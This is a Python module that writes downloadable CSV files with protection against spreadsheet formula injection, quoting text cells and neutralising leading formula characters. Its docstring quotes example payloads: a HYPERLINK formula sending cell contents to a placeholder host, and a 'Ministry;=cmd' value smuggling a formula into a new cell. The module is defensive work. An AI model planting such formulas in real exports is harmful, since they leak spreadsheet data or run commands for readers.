"""Every CSV a reader downloads (a chart's data, a full table), safe to open in a spreadsheet.

A spreadsheet takes a cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return, which some strip first) as a formula: a note or a publisher's name in the data such
as ``=HYPERLINK("https://example.org/?"&A1,"source")`` would run when a reader opens the
download. OWASP's guidance on CSV injection, followed here: such a text cell gets a single
quote in front (the spreadsheet then shows it as text), every text cell is quoted, and a
formula start right after a separator inside the text (``Ministry;=cmd...``, which a program
splitting on semicolons would read as a new cell) gets the same quote. Numbers are written as
numbers and never altered: -0.426 stays -0.426, so a column of figures stays a column of
figures. Only text changes, and a text cell "-5" becomes "'-5".

Every writer of a reader's CSV goes through :func:`csv_text`.
"""

from __future__ import annotations

import numbers
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A separator some program may split on (a locale's semicolon, a tab, a line end inside a quoted
# cell that a lax reader breaks) followed by a formula start: a new cell beginning a formula.
_AFTER_SEPARATOR = re.compile(r"([,;\t\r\n])(?=[=+\-@\t\r])")
LINE_END = "\r\n"  # RFC 4180, as the csv module writes


def neutralise(text: str) -> str:
    """``text`` with a single quote in front when a spreadsheet would read it as a formula,
    and after any separator inside it that a formula follows (``Ministry;=cmd``)."""
    text = _AFTER_SEPARATOR.sub(r"\1'", text)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def field(value: Any) -> str:
    """One CSV field: a number as Python writes it, nothing for a missing value, anything
    else (text, dates, periods) as quoted, neutralised text."""
    if _missing(value):
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, numbers.Integral):  # int and numpy's integers
        return str(int(value))
    if isinstance(value, numbers.Real):  # float and numpy's floats (whose repr names numpy)
        return repr(float(value))
    if isinstance(value, Decimal):
        return str(value)
    text = neutralise(str(value))
    return '"' + text.replace('"', '""') + '"'


def csv_text(columns: Sequence[Any], rows: Iterable[Sequence[Any]]) -> str:
    """A header and rows as CSV text, every cell through :func:`field`."""
    lines = [",".join(field(str(c)) for c in columns)]
    lines += [",".join(field(v) for v in row) for row in rows]
    return LINE_END.join(lines) + LINE_END


def _missing(value: Any) -> bool:
    """None, NaN, NaT or pandas' NA (whose truth value is an error)."""
    if value is None:
        return True
    try:
        return bool(value != value)
    except TypeError:  # pandas' NA
        return True
    except ValueError:  # an array: a value, not a missing one
        return False
